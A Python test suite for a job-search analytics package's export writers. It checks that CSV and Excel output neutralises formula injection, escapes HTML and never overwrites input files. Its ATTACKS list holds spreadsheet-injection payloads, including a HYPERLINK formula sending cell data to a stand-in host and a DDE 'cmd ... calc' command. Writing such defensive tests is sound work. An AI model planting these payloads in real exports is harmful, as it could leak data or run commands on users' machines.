"""Safe exports: neutralised text, typed values, round trips through independent readers
(openpyxl, the csv module, our own read_book), atomic writes that never touch an input."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import os
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jobsearch_analytics.io.readers import read_book
from jobsearch_analytics.io.writers import (
    EXCEL_CELL_LIMIT,
    OutputError,
    TruncatedCellWarning,
    atomic_write_bytes,
    escape_html,
    neutralise,
    safe_sheet_name,
    write_csv,
    write_text,
    write_xlsx,
)

ATTACKS = [
    '=HYPERLINK("http://evil.test?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "   =cmd|' /C calc'!A0",
]


def test_neutralise_follows_owasp() -> None:
    for text in ATTACKS:
        assert neutralise(text) == "'" + text
    for safe in ["Acme", "a=b", "", " x", "€30k", "'already"]:
        assert neutralise(safe) == safe
    stamp = dt.datetime(2024, 3, 5, 9, 30)
    for value in [3, -3, 2.5, -0.0, True, False, stamp, dt.date(2024, 3, 5), None]:
        assert neutralise(value) is value
    nan = float("nan")
    assert neutralise(nan) is nan


def test_safe_sheet_names() -> None:
    assert safe_sheet_name("a" * 40) == "a" * 31
    assert safe_sheet_name("x[1]:*?/\\y") == "x_1______y"
    assert safe_sheet_name("'quoted'") == "quoted"
    assert safe_sheet_name("HISTORY").lower() != "history"
    taken = {"Jobs", "jobs (2)"}
    name = safe_sheet_name("JOBS", taken)
    assert name == "JOBS (3)" and taken == {"Jobs", "jobs (2)"}  # not modified
    long = safe_sheet_name("b" * 40, {"b" * 31})
    assert len(long) <= 31 and long.endswith(" (2)")
    # Excel itself (via openpyxl's rules) accepts every name we make.
    wb = openpyxl.Workbook()
    for raw in ["a" * 40, "x[1]:*?/\\y", "History", " ", "Rates: 2024/25"]:
        wb.create_sheet(safe_sheet_name(raw, set(wb.sheetnames)))


def test_escape_html() -> None:
    assert escape_html("<b onclick=\"x\">'&'</b>") == (
        "&lt;b onclick=&quot;x&quot;&gt;&#x27;&amp;&#x27;&lt;/b&gt;"
    )


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "company": ["Acme", *ATTACKS[:3], "external:\\\\host\\share", "https://x.test/a"],
            "n": [1, -2, 3.25, 0, 10**12, -7],
            "ok": [True, False, True, False, True, False],
            "when": pd.to_datetime(
                ["2024-03-05", "2024-03-06 14:30", None, "2024-01-01", "2023-12-31", "2024-02-29"],
                format="ISO8601",
            ),
            "notes": ["line1\nline2", "bare\rcr", "tab\tin", "ctrl\x07bell", None, "_x0041_"],
        }
    )


def test_xlsx_round_trip_keeps_types_and_neutralises(tmp_path: Path, assert_no_live_parts) -> None:
    f = frame()
    p = write_xlsx({"Rates: by source": f, "Second": f.head(2)}, tmp_path / "out.xlsx")
    wb = openpyxl.load_workbook(p)
    assert wb.sheetnames == ["Rates_ by source", "Second"]
    ws = wb["Rates_ by source"]
    assert ws.freeze_panes == "A2" and ws["A1"].font.b
    got = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    for i, row in enumerate(got):
        src = f.iloc[i]
        company = src["company"]
        assert row[0] == neutralise(company)
        assert row[1] == src["n"] and isinstance(row[1], int | float)
        assert row[2] is bool(src["ok"])
        if pd.isna(src["when"]):
            assert row[3] is None
        else:
            assert pd.Timestamp(row[3]) == src["when"]
    # No formulas, no hyperlinks anywhere in the file.
    assert_no_live_parts(p)
    # Control characters are stored escaped (_x0007_) as Excel does; calamine (our reader,
    # like Excel) restores them, openpyxl does not, so text is compared through read_book.
    rows = read_book(p).sheets[0].rows
    assert [r[4] for r in rows[1:]] == [None if pd.isna(x) else x for x in f["notes"]]


def test_column_widths_and_formats(tmp_path: Path) -> None:
    f = pd.DataFrame({"rate": [0.25], "company": ["A much longer company name"]})
    p = write_xlsx({"S": f}, tmp_path / "w.xlsx", formats={"rate": "0.0%"})
    ws = openpyxl.load_workbook(p)["S"]
    assert ws["A2"].number_format == "0.0%" and ws["A2"].value == 0.25
    assert ws.column_dimensions["B"].width >= len("A much longer company name")


def test_long_text_is_cut_and_reported(tmp_path: Path) -> None:
    f = pd.DataFrame({"notes": ["short", "x" * 40_000]})
    with pytest.warns(TruncatedCellWarning) as caught:
        p = write_xlsx({"S": f}, tmp_path / "long.xlsx")
    (w,) = caught
    assert w.message.cells == [("S", "A3", 40_000)]
    value = openpyxl.load_workbook(p)["S"]["A3"].value
    assert len(value) == EXCEL_CELL_LIMIT and "40,000 characters" in value


def test_csv_round_trip(tmp_path: Path) -> None:
    f = frame()
    p = write_csv(f, tmp_path / "out.csv")
    with p.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == len(f) + 1  # a bare CR did not split a row
    assert rows[0] == list(f.columns)
    for row, (_, src) in zip(rows[1:], f.iterrows(), strict=True):
        assert row[0] == neutralise(src["company"])
        assert float(row[1]) == src["n"]
        assert row[4] == ("" if pd.isna(src["notes"]) else src["notes"])
    assert read_book(p).sheets[0].rows[2][4] == "bare\rcr"
    bom = write_csv(f, tmp_path / "excel.csv", encoding="utf-8-sig")
    assert bom.read_bytes().startswith(b"\xef\xbb\xbf")


TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    texts=st.lists(TEXT, min_size=1, max_size=5),
    numbers=st.lists(st.floats(-1e300, 1e300), min_size=1, max_size=5),  # Excel: < 1e308
)
def test_export_round_trip_property(tmp_path: Path, texts, numbers) -> None:
    n = min(len(texts), len(numbers))
    f = pd.DataFrame({"text": texts[:n], "number": numbers[:n]})
    p = write_csv(f, tmp_path / "p.csv")
    with p.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert [r[0] for r in rows] == [str(neutralise(t)) for t in f["text"]]
    assert [float(r[1]) for r in rows] == f["number"].tolist()
    x = write_xlsx({"S": f}, tmp_path / "p.xlsx")
    # Numbers through openpyxl; text through read_book (calamine restores the _xHHHH_ escapes
    # of control characters, openpyxl does not). Empty strings read back as empty cells.
    # xlsxwriter stores 16 significant digits (Excel shows 15), CSV the shortest exact repr.
    ws = openpyxl.load_workbook(x)["S"]
    back = [r[1].value for r in ws.iter_rows(min_row=2)]
    assert back == pytest.approx(f["number"].tolist(), rel=1e-15, abs=0)
    sheet = read_book(x, isolate=False).sheets[0]
    texts_back = [r[0] or "" for r in sheet.rows[1 - sheet.origin_row :]]
    texts_back += [""] * (n - len(texts_back))
    assert texts_back == [str(neutralise(t)) for t in f["text"]]


def sha(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def test_outputs_never_overwrite_inputs(tmp_path: Path) -> None:
    tracker = tmp_path / "tracker.csv"
    tracker.write_text("Company\nAcme\n", encoding="utf-8")
    before = sha(tracker)
    link = tmp_path / "link.csv"
    link.symlink_to(tracker)
    hard = tmp_path / "hard.csv"
    os.link(tracker, hard)
    for target in (tracker, link, hard, tmp_path / "." / "tracker.csv"):
        with pytest.raises(OutputError, match="input"):
            write_text("x", target, inputs=[tracker])
        with pytest.raises(OutputError):
            write_csv(pd.DataFrame({"a": [1]}), target, inputs=[str(tracker)])
        with pytest.raises(OutputError):
            write_xlsx({"S": pd.DataFrame({"a": [1]})}, target, inputs=[tracker])
    with pytest.raises(OutputError, match="folder"):
        atomic_write_bytes(b"x", tmp_path)
    assert sha(tracker) == before
    assert sorted(x.name for x in tmp_path.iterdir()) == ["hard.csv", "link.csv", "tracker.csv"]


def test_atomic_write_replaces_whole_and_leaves_no_temp(tmp_path: Path) -> None:
    p = tmp_path / "r.html"
    write_text("old", p)
    os.chmod(p, 0o640)
    write_text("<p>new</p>", p)
    assert p.read_text(encoding="utf-8") == "<p>new</p>"
    assert p.stat().st_mode & 0o777 == 0o640  # the existing file's mode is kept
    assert [x.name for x in tmp_path.iterdir()] == ["r.html"]
    # A failure while writing leaves the old file and no temporary file.
    with pytest.raises(TypeError):
        atomic_write_bytes("not bytes", p)  # type: ignore[arg-type]
    assert p.read_text(encoding="utf-8") == "<p>new</p>"
    assert [x.name for x in tmp_path.iterdir()] == ["r.html"]


def test_inputs_are_not_mutated(tmp_path: Path) -> None:
    f = frame()
    copy = f.copy(deep=True)
    write_xlsx({"S": f}, tmp_path / "a.xlsx")
    write_csv(f, tmp_path / "a.csv")
    pd.testing.assert_frame_equal(f, copy)
